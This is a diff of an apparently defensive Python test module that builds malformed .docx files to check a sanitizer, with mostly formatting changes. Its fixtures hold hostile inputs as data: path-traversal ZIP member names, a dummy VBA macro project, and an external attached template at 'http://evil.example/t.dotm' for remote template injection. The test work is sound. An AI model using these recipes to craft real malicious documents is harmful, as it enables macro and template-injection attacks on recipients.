@@ -79,7 +79,8 @@ def with_header(members: Members, part: str = "word/header1.xml", body: str = "L
     members = add_rel(members, "word/_rels/document.xml.rels", "rIdHdr", "header", posixpath.relpath(part, "word"))
     members = add_override(members, part, HEADER_CT)
     ref = f'<w:headerReference xmlns:r="{R_NS}" w:type="default" r:id="rIdHdr"/>'.encode()
-    return edit(members, "word/document.xml", lambda d: re.sub(rb"<w:sectPr([^>]*)>", rb"<w:sectPr\1>" + ref, d, count=1))
+    return edit(members, "word/document.xml",
+                lambda d: re.sub(rb"<w:sectPr([^>]*)>", rb"<w:sectPr\1>" + ref, d, count=1))
 
 
 def _laughs() -> bytes:
@@ -106,16 +107,20 @@ def r_dotdot(m: Members) -> Members:
     return [*m, ("../evil.xml", b"<evil/>"), ("word/../../evil2.xml", b"<evil/>"), ("C:/evil3.xml", b"<e/>")]
 
 
+MSO = "http://schemas.microsoft.com/office/2006/relationships/"
+
+
 def r_vba(m: Members) -> Members:
     m = [*m, ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro bytes"), ("word/vbaData.xml", b"<wne:vbaSuppData/>")]
-    m = add_rel(m, "word/_rels/document.xml.rels", "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
-    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVba2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
-    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVbaData", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")
+    m = add_rel(m, "word/_rels/document.xml.rels", "rIdVba", MSO + "vbaProject", "vbaProject.bin")
+    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVba2", MSO + "vbaProject", "vbaProject.bin")
+    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdVbaData", MSO + "wordVbaData", "vbaData.xml")
     return add_override(m, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
 
 
 def r_attached(m: Members) -> Members:
-    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate", "http://evil.example/t.dotm", external=True)
+    m = add_rel(m, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate", "http://evil.example/t.dotm",
+                external=True)
     return edit(m, "word/settings.xml", lambda d: d.replace(
         b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:zoom'.encode(), 1))
 
@@ -184,11 +189,14 @@ def r_left_1e400(m: Members) -> Members:
                 .replace(b'w:w="11906"', b'w:w="-5"'))
 
 
+KEY = "00000000-0000-0000-0000-000000000000"
+
+
 def r_font(m: Members) -> Members:
     m = [*m, ("word/fonts/font1.odttf", b"\x00\x01binary font")]
     m = add_rel(m, "word/_rels/fontTable.xml.rels", "rIdF", "font", "fonts/font1.odttf")
     return edit(m, "word/fontTable.xml", lambda d: d.replace(
-        b"</w:font>", f'<w:embedRegular xmlns:r="{R_NS}" r:id="rIdF" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font>'.encode(), 1))
+        b"</w:font>", f'<w:embedRegular xmlns:r="{R_NS}" r:id="rIdF" w:fontKey="{{{KEY}}}"/></w:font>'.encode(), 1))
 
 
 def r_backslash(m: Members) -> Members:
@@ -207,7 +215,8 @@ RECIPES: dict[str, Callable[[Members], Members]] = {
     "drafter-names": r_drafter_names, "left-1e400": r_left_1e400, "font": r_font, "backslash": r_backslash,
     "dangling": r_dangling,
 }
-REFUSED = {"laughs": r_laughs, "styles-root": r_styles_root, "duplicate": r_duplicate, "case-duplicate": r_case_duplicate}
+REFUSED = {"laughs": r_laughs, "styles-root": r_styles_root, "duplicate": r_duplicate,
+           "case-duplicate": r_case_duplicate}
 
 
 def everything() -> bytes:
@@ -225,9 +234,8 @@ def check_clean(data: bytes) -> None:
     """Assert that a .docx is safe and whole: normal unique names, no DTD, no external or
     dangling relationship, no duplicate relationship id, no macro or stray binary, a content
     type for every part; and that python-docx opens it."""
-    from lxml import etree
-
     import docx
+    from lxml import etree
 
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         names = [i.filename for i in z.infolist()]
